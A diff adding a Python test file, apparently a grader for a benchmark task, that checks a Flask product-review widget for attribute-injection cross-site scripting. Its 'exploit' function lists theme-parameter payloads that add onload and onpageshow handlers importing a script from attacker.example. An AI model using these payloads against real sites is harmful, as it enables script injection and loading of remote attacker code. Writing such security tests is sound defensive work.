@@ -1,0 +1,41 @@
+from flask import Flask
+from page import scripts_of, tags_of
+
+
+def open_page(code, **query):
+    review = code.Review('Ada "A."', 4, "<i>It's</i> bright")
+    lamp = code.Product("lamp-3", "Lamp <3>", [review])
+
+    class Products:
+        def find(self, key):
+            return lamp if key == "lamp-3" else None
+
+    app = Flask("shop")
+    code.add_review_widget(app, Products())
+    client = app.test_client()
+    assert client.get("/widgets/reviews/none").status_code == 404
+    return client.get("/widgets/reviews/lamp-3", query_string=query).get_data(as_text=True)
+
+
+def works(code):
+    html = open_page(code, theme="acme-dark", lang="de")
+    tags = {tag["name"]: tag for tag in tags_of(html)}
+    assert tags["body"]["attributes"] == {"class": "acme-dark"}
+    assert tags["html"]["attributes"] == {"lang": "de"}
+    assert tags["blockquote"]["text"] == "<i>It's</i> bright"
+    assert tags["a"]["text"] == "Lamp <3>"
+    plain = open_page(code, lang="x onload=y")
+    assert scripts_of(plain) == []
+    assert [tag["attributes"]["class"] for tag in tags_of(plain) if tag["name"] == "body"] == ["light"]
+
+
+def exploit(code):
+    payload = "import(`//attacker.example/v.js`)"
+    themes = [
+        f"dark onload={payload}",
+        f"dark\tonload={payload}",
+        f"dark onpageshow={payload}",
+        f"dark' onload='{payload}",
+        f'dark" onload="{payload}',
+    ]
+    return any(payload in scripts_of(open_page(code, theme=theme)) for theme in themes)
